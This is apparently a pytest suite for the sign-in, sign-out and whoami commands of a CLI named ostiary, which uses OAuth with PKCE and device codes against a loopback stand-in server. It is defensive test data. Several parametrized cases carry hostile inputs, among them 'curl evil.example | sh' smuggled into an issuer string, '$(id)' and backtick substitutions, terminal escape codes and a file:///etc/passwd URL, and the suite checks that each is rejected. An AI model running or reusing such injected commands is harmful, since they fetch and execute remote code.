"""`ostiary login`, `logout` and `whoami` against a console on loopback."""

import html
import http.client
import json
import re
import threading
import urllib.request
import webbrowser
from collections.abc import Callable
from pathlib import Path
from urllib.parse import parse_qsl, urlsplit

import pytest

from ostiary.cli import login as login_command
from ostiary.cli import oauth_client
from ostiary.cli.commands import DONE, FAILED, NOT_REACHABLE, WRONG_USAGE
from ostiary.cli.loopback import listening
from ostiary.model.errors import OperatorError, RefusedError
from support.console_standin import KeptLogins, StandIn, a_login

Ostiary = Callable[..., tuple[int, str, str]]


def address_in(file: str) -> str:
    """Where the page leads that a browser was given."""
    path = Path(urllib.request.url2pathname(urlsplit(file).path))
    assert path.stat().st_mode & 0o777 == 0o600
    found = re.search('content="0;url=([^"]+)"', path.read_text())
    assert found is not None
    return html.unescape(found[1])


@pytest.fixture
def browser(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """One that opens every file at once and follows where it leads; the pages it ended on."""
    pages: list[str] = []

    def visit(file: str) -> None:
        url = address_in(file)
        with urllib.request.urlopen(url, timeout=10) as answer:
            pages.append(answer.read().decode())

    def opens(url: str) -> bool:
        threading.Thread(target=visit, args=(url,), daemon=True).start()
        return True

    monkeypatch.setenv("DISPLAY", ":0")
    monkeypatch.setattr(webbrowser, "open", opens)
    return pages


@pytest.fixture
def no_waiting(monkeypatch: pytest.MonkeyPatch) -> list[float]:
    """Waits of the device code take no time, and are put down."""
    waits: list[float] = []
    monkeypatch.setattr(oauth_client.await_device, "__defaults__", (waits.append,))
    return waits


def test_a_browser_sign_in_keeps_what_it_needs_and_nobody_else_may_read_it(
    ostiary: Ostiary, console: StandIn, browser: list[str], kept: KeptLogins
) -> None:
    code, out, err = ostiary("login", "--console", console.url.upper() + "/")
    assert (code, out.splitlines()[0]) == (DONE, f"Signed in at {console.url} as alice.")
    assert f"{console.url}/oauth/authorize?" in err
    (_, asked), (_, exchanged) = console.seen
    assert asked["client_id"] == "ostiary-cli"
    assert asked["code_challenge_method"] == "S256"
    assert asked["scope"] == "gateway api"
    assert "agent" not in asked
    assert asked["device"]
    assert asked["redirect_uri"].startswith("http://127.0.0.1:")
    assert len(exchanged["code_verifier"]) >= 43
    (login,) = kept.read()
    assert (login["console"], login["agent"], login["user"]) == (console.url, "", "alice")
    assert kept.path.stat().st_mode & 0o777 == 0o600
    assert kept.path.parent.stat().st_mode & 0o777 == 0o700
    assert ostiary("token")[:2] == (DONE, "gateway-token-1\n")
    for secret in (login["refresh_token"], "gateway-token", exchanged["code"], exchanged["code_verifier"]):
        assert secret not in out + err
    assert "Back to your terminal" in browser[0]
    assert not list(kept.path.parents[2].glob("*.html"))


def test_without_a_place_for_its_page_no_browser_opens_and_the_address_is_shown(
    ostiary: Ostiary, console: StandIn, browser: list[str], person: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(login_command, "_BROWSER_TIMEOUT_S", 0.3)
    monkeypatch.setenv("HOME", str(person / "missing"))
    monkeypatch.delenv("XDG_RUNTIME_DIR", raising=False)
    code, _, err = ostiary("login", "--console", console.url)
    assert (code, browser) == (FAILED, [])
    assert f"Open this address to sign in:\n\n  {console.url}/oauth/authorize?" in err


def test_an_agents_sign_in_is_for_the_gateway_alone_and_stands_beside_ones_own(
    ostiary: Ostiary, console: StandIn, browser: list[str], kept: KeptLogins
) -> None:
    ostiary("login", "--console", console.url, "--agent", "cursor@laptop")
    assert console.seen[0][1]["scope"] == "gateway"
    assert console.seen[0][1]["agent"] == "cursor@laptop"
    assert ostiary("token")[1] == "gateway-token-1\n"
    ostiary("login", "--console", console.url)
    assert [login["agent"] for login in kept.read()] == ["", "cursor@laptop"]
    assert ostiary("token")[1] == "gateway-token-2\n"
    assert ostiary("token", "--agent", "cursor@laptop")[1] == "gateway-token-1\n"
    assert ostiary("token", "--agent", "codex")[0] == FAILED


def test_signing_in_again_ends_the_sign_in_that_it_replaces(
    ostiary: Ostiary, console: StandIn, browser: list[str], kept: KeptLogins
) -> None:
    ostiary("login", "--console", console.url)
    assert [name for name, _ in console.seen] == ["authorize", "token"]
    ostiary("login", "--console", console.url)
    assert [name for name, _ in console.seen[2:]] == ["sign-in", "authorize", "token"]
    assert console.seen[2][1]["again"] == "1"
    assert console.revoked == ["refresh-1"]
    assert [login["refresh_token"] for login in kept.read()] == ["refresh-2"]


@pytest.mark.parametrize(
    ("change", "sentence"),
    [
        ({"issuer_in_answer": "https://evil.example"}, "came from another server"),
        ({"issuer_in_answer": None}, "came from another server"),
        ({"error_in_answer": "access_denied"}, "was refused in the browser"),
        ({"error_in_answer": "x\x1b[2J<b>"}, "(no reason given)"),
    ],
    ids=["another issuer", "no issuer", "refused", "hostile error"],
)
def test_an_answer_that_is_not_right_signs_nobody_in(
    change: dict[str, str | None], sentence: str, ostiary: Ostiary, console: StandIn, browser: list[str],
    kept: KeptLogins,
) -> None:  # fmt: skip
    for name, value in change.items():
        setattr(console, name, value)
    code, _, err = ostiary("login", "--console", console.url)
    assert code == FAILED
    assert sentence in err
    assert "\x1b" not in err
    assert not kept.path.exists()
    assert [name for name, _ in console.seen] == ["authorize"]


def test_an_answer_with_another_state_is_turned_away_and_the_right_one_still_counts() -> None:
    with listening() as loopback:
        loopback.expect("right")
        port = urlsplit(loopback.redirect_uri).port
        assert port is not None

        def visit(target: str, host: str = f"127.0.0.1:{port}", method: str = "GET") -> int:
            connection = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
            connection.request(method, target, headers={"Host": host})
            status = connection.getresponse().status
            connection.close()
            return status

        assert visit("/callback?state=wrong&code=c") == 404
        assert visit("/callback?code=c") == 404
        assert visit("/callback?state=&code=c") == 404
        assert visit("/callback?state=right&state=right&code=c") == 404
        assert visit("/favicon.ico") == 404
        assert visit("/callback?state=right&code=c", host=f"evil.example:{port}") == 404
        assert visit("/callback?state=right&code=c", method="POST") == 501
        with pytest.raises(RefusedError):
            loopback.wait(0.01)
        assert visit("/callback?state=right&code=c%26d") == 200
        assert visit("/callback?state=right&code=again") == 404
        assert visit("/callback?state=&code=again") == 404
        assert loopback.wait(1) == {"state": "right", "code": "c&d"}


def test_on_a_machine_without_a_screen_a_code_is_shown(
    ostiary: Ostiary, console: StandIn, kept: KeptLogins, no_waiting: list[float], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("sys.platform", "linux")
    console.pending = 2
    code, out, err = ostiary("login", "--console", console.url, "--agent", "ci")
    assert (code, out.splitlines()[0]) == (DONE, f"Signed in at {console.url} as alice, for ci.")
    assert f"{console.url}/device" in err
    assert "WDJB-MJHT" in err
    assert no_waiting == [1.0, 1.0, 1.0]
    assert console.seen[0] == ("device", console.seen[0][1])
    assert console.seen[0][1]["agent"] == "ci"
    assert kept.read()[0]["refresh_token"] == "refresh-1"


@pytest.mark.parametrize(
    ("error", "sentence"),
    [
        ("access_denied", "was refused in the browser"),
        ("expired_token", "Nobody confirmed"),
        ("invalid_client", "refused the sign-in (invalid_client)"),
    ],
)
def test_a_code_that_nobody_confirms_signs_nobody_in(
    error: str, sentence: str, ostiary: Ostiary, console: StandIn, kept: KeptLogins, no_waiting: list[float]
) -> None:
    console.device_error = error
    code, _, err = ostiary("login", "--device", "--console", console.url)
    assert (code, sentence in err) == (FAILED, True)
    assert not kept.path.exists()


def test_a_console_that_asks_for_patience_is_asked_less_often(console: StandIn, person: Path) -> None:
    waits: list[float] = []
    endpoints = oauth_client.discover(console.url)
    device = oauth_client.begin_device(endpoints, "", "laptop")

    def sleep(wait_s: float) -> None:
        waits.append(wait_s)
        # First no server, then one that is asked too often, then the answer.
        console.status = 503 if len(waits) == 1 else 0
        console.device_error = "slow_down" if len(waits) == 2 else ""

    assert oauth_client.await_device(endpoints, device, sleep).user == "alice"
    assert waits == [1.0, 2.0, 7.0]


@pytest.mark.parametrize(
    ("environment", "expected"),
    [
        ({}, False),
        ({"DISPLAY": ":0"}, True),
        ({"WAYLAND_DISPLAY": "wayland-0"}, True),
        ({"BROWSER": "firefox"}, True),
        ({"DISPLAY": ":0", "SSH_CONNECTION": "a b c d"}, False),
    ],
    ids=str,
)
def test_where_a_browser_is_expected(
    environment: dict[str, str], expected: bool, person: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("sys.platform", "linux")
    for name, value in environment.items():
        monkeypatch.setenv(name, value)
    assert login_command._has_browser() is expected


@pytest.mark.parametrize(
    ("metadata", "exit_code", "sentence"),
    [
        ({"issuer": "https://elsewhere.example"}, FAILED, "`ostiary login --console https://elsewhere.example`"),
        ({"issuer": None}, FAILED, "is not the console of an Ostiary"),
        ({"token_endpoint": "https://evil.example/token"}, FAILED, "no token_endpoint of its own"),
        ({"authorization_endpoint": "http://127.0.0.1.evil.example/"}, FAILED, "no authorization_endpoint of its own"),
    ],
    ids=["another issuer", "no issuer", "foreign token endpoint", "foreign page"],
)
def test_a_console_must_speak_for_itself(
    metadata: dict[str, str | None], exit_code: int, sentence: str, ostiary: Ostiary, console: StandIn
) -> None:
    console.metadata = dict(metadata)
    code, _, err = ostiary("login", "--console", console.url)
    assert (code, sentence in err) == (exit_code, True), err
    assert console.seen == []


@pytest.mark.parametrize(
    ("url", "exit_code", "sentence"),
    [
        ("http://ostiary.example", FAILED, "not encrypted"),
        ("ostiary.example", WRONG_USAGE, "is not the address of a console"),
        ("https://user@ostiary.example", WRONG_USAGE, "is not the address of a console"),
        ("https://ostiary.example/path", WRONG_USAGE, "is not the address of a console"),
        ("file:///etc/passwd", WRONG_USAGE, "is not the address of a console"),
        ("http://127.0.0.1:9", NOT_REACHABLE, "cannot be reached"),
    ],
)
def test_where_one_cannot_sign_in(url: str, exit_code: int, sentence: str, ostiary: Ostiary) -> None:
    code, _, err = ostiary("login", "--console", url)
    assert (code, sentence in err) == (exit_code, True), err


def test_the_console_of_this_machines_server_is_the_usual_one(
    ostiary: Ostiary, console: StandIn, browser: list[str], person: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert "Which console?" in ostiary("login")[2]
    home = person / ".local" / "share" / "ostiary"
    home.mkdir(parents=True)
    (home / "server.json").write_text(json.dumps({"console": console.url}))
    assert ostiary("login")[0] == DONE
    monkeypatch.setenv("OSTIARY_CONSOLE", "https://other.invalid")
    assert ostiary("login")[0] == NOT_REACHABLE


def test_a_redirect_is_not_followed_with_anything_in_hand(ostiary: Ostiary, console: StandIn, kept: KeptLogins) -> None:
    login = a_login(console, left_s=-1)
    login["endpoints"]["token"] = f"{console.url}/redirecting"
    kept.write(login)
    assert ostiary("token")[0] == FAILED
    assert console.refreshes == 0


def test_signing_out_ends_the_sign_in_there_and_forgets_it_here(
    ostiary: Ostiary, console: StandIn, kept: KeptLogins
) -> None:
    kept.write(a_login(console), a_login(console, "cursor@laptop", refresh_token="refresh-9"))
    code, _, err = ostiary("logout")
    assert (code, "several sign-ins" in err) == (WRONG_USAGE, True)
    assert ostiary("logout", "--agent", "cursor@laptop")[0] == DONE
    assert console.revoked == ["refresh-9"]
    code, out, _ = ostiary("logout", "--json")
    assert json.loads(out) == {"signed_out": [{"console": console.url, "agent": None}]}
    assert console.revoked == ["refresh-9", "refresh-0"]
    assert kept.read() == []
    assert ostiary("logout")[0] == FAILED
    assert ostiary("logout", "--all")[0] == DONE


def test_signing_out_of_a_console_that_does_not_answer_forgets_it_and_says_what_is_left(
    ostiary: Ostiary, console: StandIn, kept: KeptLogins
) -> None:
    nowhere = "http://127.0.0.1:9"
    endpoints = {"token": f"{nowhere}/oauth/token", "revocation": f"{nowhere}/oauth/revoke"}
    kept.write(a_login(console), a_login(agent="a") | {"console": nowhere, "endpoints": endpoints})
    code, out, err = ostiary("logout", "--all")
    assert code == NOT_REACHABLE
    assert f"Signed out of {console.url}" in out
    assert "not ended at http://127.0.0.1:9" in err
    assert kept.read() == []


def test_whoami_tells_which_sign_ins_still_stand(ostiary: Ostiary, console: StandIn, kept: KeptLogins) -> None:
    assert ostiary("whoami")[0] == FAILED
    # What is kept of the second looks as good, but the console knows nothing of it any more.
    kept.write(a_login(console), a_login(console, "cursor@laptop", signed_in_at=1.0, refresh_token="over"))
    code, out, _ = ostiary("whoami", "--json")
    rows = json.loads(out)["logins"]
    assert code == DONE
    assert [(row["user"], row["agent"], row["state"]) for row in rows] == [
        ("alice", None, "signed in"),
        ("alice", "cursor@laptop", "ended"),
    ]
    assert ostiary("whoami", "--agent", "cursor@laptop")[0] == FAILED
    assert "token" not in out


@pytest.mark.parametrize(
    ("issuer", "is_told"),
    [
        ("https://ostiary.example.com", True),
        ("https://ostiary.example.com:8421/console/", True),
        ("https://x.example; curl evil.example | sh", False),
        ("https://x.example/$(id)", False),
        ("https://x.example/`id`", False),
        ("https://x.example/\n\x1b[2J", False),
        ("https://x.example/'", False),
        ("https://x.example/?a=b&c=d", False),
        ("-h", False),
    ],
)
def test_only_an_address_is_put_into_a_command_to_copy(console: StandIn, issuer: str, is_told: bool) -> None:
    console.metadata = {"issuer": issuer}
    with pytest.raises(OperatorError) as caught:
        oauth_client.discover(console.url)
    assert "says that its address is" in str(caught.value)
    assert (f"`ostiary login --console {issuer}`" in str(caught.value)) is is_told
    assert (issuer in str(caught.value)) is is_told


def test_what_is_asked_for_is_in_the_query_once(console: StandIn) -> None:
    attempt = oauth_client.begin(oauth_client.discover(console.url), "http://127.0.0.1:1/callback", "a&b=c", "d")
    pairs = parse_qsl(urlsplit(attempt.url).query)
    assert dict(pairs)["agent"] == "a&b=c"
    assert len(dict(pairs)) == len(pairs)
